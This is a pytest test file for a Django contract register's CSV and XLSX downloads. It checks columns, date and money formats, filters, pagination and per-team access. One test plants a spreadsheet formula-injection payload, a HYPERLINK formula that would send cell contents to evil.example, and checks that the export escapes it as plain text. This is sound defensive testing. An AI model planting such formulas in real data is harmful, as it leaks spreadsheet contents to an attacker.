"""The register's downloads: what the officer sees on screen, every page of it, as CSV and XLSX."""

from __future__ import annotations

from datetime import date, datetime
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from contracts import roles
from tests.export_helpers import attachment_name, body, read_csv, read_xlsx, spreadsheet_download
from tests.factories import make_contract, make_organisation, make_team, make_user

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("frozen_today")]


REGISTER_HEADINGS = [
    "Reference",
    "Title",
    "Type",
    "Service",
    "Team",
    "Buyer",
    "Provider",
    "Lead officer",
    "Status",
    "Start date",
    "End of initial term",
    "Current end date",
    "Maximum extent date",
    "Terminated on",
    "Options left",
    "Days to end",
    "Annual value",
    "Total value",
    "Funding source",
    "Funding detail",
    "Light-touch regime",
    "Procurement route",
    "Decision on expiry",
    "OCID",
]


@pytest.fixture
def team():
    return make_team(name="Domestic abuse team")


@pytest.fixture
def officer(team):
    return make_user(username="olivia", role=roles.OFFICER, first_name="Olivia", last_name="Okafor", teams=[team])


@pytest.fixture
def refuge(team, officer):
    """An active contract with money and dates in every column that takes them."""
    return make_contract(
        reference="MK-REFUGE",
        title="Refuge for women and children",
        team=team,
        provider=make_organisation(name="Refuge charity"),
        lead_officer=officer,
        start_date=date(2026, 4, 1),
        initial_term_months=36,
        max_extent_date=date(2031, 3, 31),
        annual_value=Decimal("524994.50"),
        total_value=Decimal("2624972.50"),
        procurement_route="published_tender",
    )


@pytest.fixture
def planned(team):
    return make_contract(reference="MK-PLANNED", title="Perpetrator programme", team=team, provider=None)


def download(client, name, query=""):
    if name.endswith("-xlsx"):  # made by a worker: ask, run it, download what it made
        return spreadsheet_download(client, reverse(f"exports:{name}") + query)
    return client.get(reverse(f"exports:{name}") + query)


def test_the_csv_holds_every_column_with_dates_in_iso_and_money_as_plain_numbers(client, officer, refuge, planned):
    client.force_login(officer)

    response = download(client, "register-csv")

    headings, rows = read_csv(response)
    assert headings == REGISTER_HEADINGS
    assert [row["Reference"] for row in rows] == ["MK-REFUGE", "MK-PLANNED"]  # the page's order: end date
    row = rows[0]
    assert row["Title"] == "Refuge for women and children"
    assert row["Team"] == "Domestic abuse team"
    assert row["Provider"] == "Refuge charity"
    assert row["Lead officer"] == "Olivia Okafor"
    assert row["Status"] == "Active"
    assert row["Start date"] == "2026-04-01"
    assert row["End of initial term"] == "2029-03-31"
    assert row["Current end date"] == "2029-03-31"
    assert row["Maximum extent date"] == "2031-03-31"
    assert row["Terminated on"] == ""
    assert row["Options left"] == "2"
    assert row["Days to end"] == str((date(2029, 3, 31) - date(2026, 11, 22)).days)
    assert row["Annual value"] == "524994.50"
    assert row["Total value"] == "2624972.50"
    assert row["Procurement route"] == "Published invitation to tender"
    assert rows[1]["Provider"] == "" and rows[1]["Status"] == "Planned"
    assert attachment_name(response) == "contract-register-2026-11-22.csv"


def test_the_spreadsheet_has_real_date_cells_numeric_money_and_a_bold_frozen_heading(client, officer, refuge):
    client.force_login(officer)

    response = download(client, "register-xlsx")

    headings, rows, sheet = read_xlsx(response)
    assert headings == REGISTER_HEADINGS
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.title == "Contract register"
    row = rows[0]
    assert row["Reference"].value == "MK-REFUGE"
    start = row["Start date"]
    assert start.is_date and isinstance(start.value, datetime) and start.value.date() == date(2026, 4, 1)
    assert start.number_format == "dd/mm/yyyy"
    assert row["Current end date"].value.date() == date(2029, 3, 31)
    assert row["Terminated on"].value is None
    annual = row["Annual value"]
    assert annual.data_type == "n" and Decimal(str(annual.value)) == Decimal("524994.50")
    assert "£" in annual.number_format
    assert Decimal(str(row["Total value"].value)) == Decimal("2624972.50")
    assert row["Options left"].value == 2
    assert row["Days to end"].value == (date(2029, 3, 31) - date(2026, 11, 22)).days
    assert attachment_name(response) == "contract-register-2026-11-22.xlsx"


@pytest.mark.parametrize("name", ["register-csv", "register-xlsx"])
def test_a_filtered_download_leaves_out_what_the_filters_leave_out(client, officer, refuge, planned, name):
    client.force_login(officer)
    read = read_csv if name.endswith("csv") else read_xlsx

    for query, expected in [
        ("?status=planned", ["MK-PLANNED"]),
        ("?q=refuge", ["MK-REFUGE"]),
        ("?ending_within=6", []),
        ("?sort=reference&order=desc", ["MK-REFUGE", "MK-PLANNED"]),
    ]:
        rows = read(download(client, name, query))[1]
        references = [row["Reference"] if isinstance(row["Reference"], str) else row["Reference"].value for row in rows]
        assert references == expected, query


def test_the_download_holds_every_page_of_the_register_not_just_the_first(client, officer, team):
    for number in range(27):  # the page shows 25
        make_contract(reference=f"MK-{number:03d}", team=team, option_months=())
    client.force_login(officer)

    assert "27 contracts, showing 25 at a time" in client.get(reverse("contracts:register")).content.decode()
    assert len(read_csv(download(client, "register-csv"))[1]) == 27


def test_bad_filter_values_are_ignored_as_the_page_ignores_them(client, officer, refuge, planned):
    client.force_login(officer)

    rows = read_csv(download(client, "register-csv", "?status=bogus&provider=abc&team=999&ending_within=7&sort=x"))[1]

    assert {row["Reference"] for row in rows} == {"MK-REFUGE", "MK-PLANNED"}


def test_another_teams_contracts_are_not_in_the_download(client, officer, refuge):
    other_team = make_team(name="Another team")
    make_contract(reference="SECRET-1", title="Another team's refuge", team=other_team)
    outsider = make_user(role=roles.OFFICER, teams=[other_team])

    client.force_login(officer)
    assert [row["Reference"] for row in read_csv(download(client, "register-csv"))[1]] == ["MK-REFUGE"]

    client.force_login(outsider)
    assert [row["Reference"] for row in read_csv(download(client, "register-csv"))[1]] == ["SECRET-1"]
    assert b"MK-REFUGE" not in body(download(client, "register-xlsx"))


@pytest.mark.parametrize("name", ["register-csv", "register-xlsx"])
def test_a_formula_in_a_title_arrives_as_text_not_a_formula(client, officer, team, name):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")'
    make_contract(
        reference="MK-EVIL",
        title=formula,
        team=team,
        funding_detail="@SUM(1+1)",
        provider=make_organisation(name="+44 20 7946 0000"),
    )
    client.force_login(officer)

    if name.endswith("csv"):
        row = read_csv(download(client, name))[1][0]
        title, provider, funding = row["Title"], row["Provider"], row["Funding detail"]
    else:
        cells = read_xlsx(download(client, name))[1][0]
        assert cells["Title"].data_type == "s"  # a string cell, not a formula
        title, provider, funding = cells["Title"].value, cells["Provider"].value, cells["Funding detail"].value

    assert title == "'" + formula
    assert provider == "'+44 20 7946 0000"
    assert funding == "'@SUM(1+1)"


def test_people_without_the_register_cannot_download_it_and_nobody_can_post(client, officer, refuge):
    client.force_login(make_user(role=None))
    assert download(client, "register-csv").status_code == 403

    client.force_login(officer)
    assert client.post(reverse("exports:register-csv")).status_code == 405


def test_the_download_reads_the_same_number_of_queries_for_3_or_30_contracts(client, officer, team):
    client.force_login(officer)

    def queries_for_download():
        with CaptureQueriesContext(connection) as queries:
            body(download(client, "register-csv"))
            body(download(client, "register-xlsx"))
        return len(queries)

    for number in range(3):
        make_contract(reference=f"SMALL-{number}", team=team, lead_officer=officer)
    few = queries_for_download()
    for number in range(27):
        make_contract(reference=f"LARGE-{number}", team=team, lead_officer=officer)

    assert queries_for_download() == few


def test_each_pages_download_links_carry_its_filters_but_not_its_page_number(client, officer, team):
    client.force_login(officer)

    register = client.get(
        reverse("contracts:register"), {"status": "planned", "q": "refuge", "page": "2"}
    ).content.decode()
    dashboard = client.get(reverse("commissioning:dashboard"), {"team": team.pk, "mine": "on"}).content.decode()
    reminders = client.get(reverse("reminders:list"), {"show": "failed", "page": "3"}).content.decode()

    assert 'href="/exports/register.csv?status=planned&amp;q=refuge"' in register
    assert 'href="/exports/register.xlsx?status=planned&amp;q=refuge"' in register
    assert f'href="/exports/milestones.xlsx?team={team.pk}&amp;mine=on"' in dashboard
    # The Reminders downloads keep the team on screen: "team=" is all of the person's teams (an
    # admin's page opens on their own team, so "no team" must be said).
    assert 'href="/exports/reminders.csv?show=failed&amp;team="' in reminders
